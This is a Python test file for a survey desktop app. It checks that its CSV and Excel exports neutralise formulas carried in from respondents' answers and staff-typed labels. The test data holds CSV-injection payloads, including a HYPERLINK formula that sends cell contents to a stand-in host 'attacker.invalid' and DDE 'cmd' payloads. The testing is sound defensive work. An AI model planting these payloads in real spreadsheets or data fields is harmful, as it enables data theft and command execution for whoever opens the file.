"""No spreadsheet the app writes (CSV or Excel) can carry a formula from people's text into Excel.

Respondents' words reach the questionnaire itself when it is built from an export (`cycle-add --infer-from`: their
answers become the options), and the PSW types questions, answers and group names. Here every such text starts with
something Excel would run; every spreadsheet output is then opened and each cell checked. Every export format that
writes .csv or .xlsx is covered as it is added to EXPORT_KINDS; other spreadsheets are rows of SPREADSHEET_OUTPUTS.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from swhc_desktop.domain.questionnaire import QuestionType
from swhc_desktop.domain.records import AnswerValue, BatchKind, NewBatch, NewResponse
from swhc_desktop.outputs.exports.kinds import EXPORT_KINDS, export
from swhc_desktop.outputs.exports.safe_cells import FORMULA_STARTS
from swhc_desktop.questionnaires.edits import ChangeOption, ChangeQuestion, apply_edit
from swhc_desktop.storage import HealthCheckFile

from .support.import_support import new_file, run_cli

# What people might type that a spreadsheet would run (OWASP's CSV injection examples, and their like).
PLANTED = (
    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=3+3",
    "\r=2+2",
    "=1+1",
)
OFFICE = "Which office do you work from?"


def infer_export(folder: Path) -> Path:
    """An export whose answers (which become the options of an inferred questionnaire) are all formulas."""
    path = folder / "offices.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["Timestamp", OFFICE, "How many hours do you work?", "Anything else?"])
    for number in range(24):
        writer.writerow(
            [
                f"0{1 + number % 9}/05/2024 10:00:00",
                PLANTED[number % len(PLANTED)],
                30 + number % 9,
                PLANTED[(number + 3) % len(PLANTED)],
            ]
        )
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def planted(tmp_path_factory) -> Path:
    """A file with a cycle inferred from that export (its answers imported too, the office question made a
    breakdown), and the staff survey with the PSW's own team names starting with formulas."""
    from swhc_desktop.paths import UserFolders

    folder = tmp_path_factory.mktemp("formulas")
    path = new_file(folder, UserFolders.under(folder / "home"))
    export_file = infer_export(folder)
    from swhc_desktop.cli import main

    assert main(["cycle-add", str(path), "2025", "--infer-from", str(export_file)]) == 0
    assert main(["import", str(path), "2025", str(export_file)]) == 0
    with HealthCheckFile.open(path) as hc:
        cycle = hc.cycles.by_name("2025")
        for question in hc.questionnaires.load(cycle.id).questions():  # as the PSW checks it in the designer
            after = dataclasses.replace(question, standard=question.standard or 1, is_dimension=question.text == OFFICE)
            apply_edit(hc, cycle.id, ChangeQuestion(question, after))
        team = hc.questionnaires.load(hc.cycles.by_name("2024").id).question("team")
        for option, text in zip(team.options, PLANTED, strict=False):
            apply_edit(
                hc, hc.cycles.by_name("2024").id, ChangeOption("team", option, dataclasses.replace(option, label=text))
            )
        add_staff_answers_in_planted_teams(hc)
    return path


def add_staff_answers_in_planted_teams(hc: HealthCheckFile) -> None:
    """Six staff in each team whose name is a formula, each leaving a comment that is one, so the tables, the
    breakdowns and the anonymised responses of 2024 all carry them."""
    cycle = hc.cycles.by_name("2024")
    questionnaire = hc.questionnaires.load(cycle.id)
    team = questionnaire.question("team")
    comment = next(q for q in questionnaire.questions() if q.qtype is QuestionType.TEXT)
    responses = [
        NewResponse(
            (
                AnswerValue(team.id, option_id=option.id),
                AnswerValue(comment.id, text=PLANTED[(number + index) % len(PLANTED)]),
            )
        )
        for index, option in enumerate(team.options[: len(PLANTED)])
        for number in range(6)
    ]
    hc.responses.add_batch(cycle.id, NewBatch(BatchKind.PAPER, "Paper returns"), responses)


@dataclass(frozen=True)
class SpreadsheetOutput:
    """A spreadsheet the app writes: its name, and how to make it for a cycle (returns the path or the text)."""

    name: str
    make: Callable[[Path, str, Path], Path | str]  # (health-check file, cycle, folder) -> file written, or CSV text


def _export(kind, export_format) -> SpreadsheetOutput:
    def make(path: Path, cycle: str, folder: Path) -> Path:
        out = folder / f"{kind.what}-{cycle}{export_format.suffix}"
        with HealthCheckFile.open(path, read_only=True) as hc:
            return export(hc, hc.cycles.by_name(cycle), kind.what, export_format.name, out)

    return SpreadsheetOutput(f"export {kind.what} {export_format.name}", make)


def _command(name: str, arguments: Callable[[str], list[str]]) -> SpreadsheetOutput:
    def make(path: Path, cycle: str, folder: Path) -> str:
        import contextlib

        from swhc_desktop.cli import main

        out = io.StringIO()
        with contextlib.redirect_stdout(out):
            assert main([arguments(cycle)[0], str(path), cycle, *arguments(cycle)[1:]]) == 0
        return out.getvalue()

    return SpreadsheetOutput(name, make)


def _by(cycle: str) -> str:
    return {"2024": "team", "2025": "which_office_do_you_work_from"}[cycle]


SPREADSHEET_OUTPUTS: tuple[SpreadsheetOutput, ...] = (
    *(
        _export(kind, export_format)
        for kind in EXPORT_KINDS
        for export_format in kind.formats
        if export_format.suffix in (".csv", ".xlsx")
    ),
    _command("tables csv", lambda cycle: ["tables"]),
    _command("tables --by csv", lambda cycle: ["tables", "--by", _by(cycle)]),
    _command("questions csv", lambda cycle: ["questions"]),
    _command("indicators csv", lambda cycle: ["indicators"]),
)


def cells_of(made: Path | str) -> list[tuple[str, object]]:
    """Every cell of a CSV text, CSV file or workbook: (where, value); a workbook's formulas as ('formula', text)."""
    if isinstance(made, str) or made.suffix == ".csv":
        text = made if isinstance(made, str) else made.read_text(encoding="utf-8-sig")
        return [
            (f"row {r} column {c}", value)
            for r, row in enumerate(csv.reader(io.StringIO(text, newline="")))
            for c, value in enumerate(row)
        ]
    from openpyxl import load_workbook

    found = []
    workbook = load_workbook(made)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = ("formula", cell.value) if cell.data_type == "f" else cell.value
                found.append((f"{sheet.title}!{cell.coordinate}", value))
    return found


def runs_as_formula(value: object) -> bool:
    """Whether a spreadsheet would run this cell: a formula, or text that starts like one (and is not a number)."""
    if isinstance(value, tuple):
        return True
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return False
    try:
        float(value)
        return False
    except ValueError:
        return True


def by_name(output: SpreadsheetOutput) -> str:
    return output.name


@pytest.mark.parametrize("cycle", ["2024", "2025"])
@pytest.mark.parametrize("output", SPREADSHEET_OUTPUTS, ids=by_name)
def test_no_spreadsheet_carries_a_formula_from_peoples_text(output, cycle, planted, tmp_path):
    made = output.make(planted, cycle, tmp_path)
    cells = cells_of(made)
    assert cells
    dangerous = [(where, value) for where, value in cells if runs_as_formula(value)]
    assert dangerous == [], f"{output.name} would run these in Excel"
    if output.name.startswith("tables") or output.name == "export template xlsx":
        # The planted words are there, shown as text: neutralised, not dropped.
        assert "'=1+1" in {str(value) for _, value in cells}


def test_the_template_built_from_formula_answers_imports_back_to_the_same_answers(planted, tmp_path, capsys):
    """The answers offered in the workbook's lists are neutralised, and still import as the options they are."""
    from openpyxl import load_workbook

    made = _export(
        next(k for k in EXPORT_KINDS if k.what == "template"),
        next(f for k in EXPORT_KINDS if k.what == "template" for f in k.formats if f.name == "xlsx"),
    )
    workbook_path = made.make(planted, "2025", tmp_path)
    workbook = load_workbook(workbook_path)
    lists = workbook.worksheets[-1]
    offered = [c.value for c in next(lists.iter_cols()) if c.value]
    responses = workbook.worksheets[0]
    headings = [c.value for c in responses[1]]
    office_column = next(i for i, h in enumerate(headings, start=1) if h and OFFICE in h)
    for row, label in enumerate(offered, start=2):
        responses.cell(row, office_column, label)  # as if picked from the cell's list
    workbook.save(workbook_path)
    before = office_counts(planted)
    code, out, err = run_cli(capsys, "import", planted, "2025", workbook_path)
    assert code == 0, err
    assert "match no option" not in out
    after = office_counts(planted)
    assert {label: after[label] - before[label] for label in after} == {label.strip(): 1 for label in PLANTED}


def office_counts(path: Path) -> dict[str, int]:
    with HealthCheckFile.open(path, read_only=True) as hc:
        cycle = hc.cycles.by_name("2025")
        office = next(q for q in hc.questionnaires.load(cycle.id).questions() if q.text == OFFICE)
        counts = hc.answers.option_respondents([office.id], {}).get(office.id, {})
        return {o.label: counts.get(o.id, 0) for o in office.options}
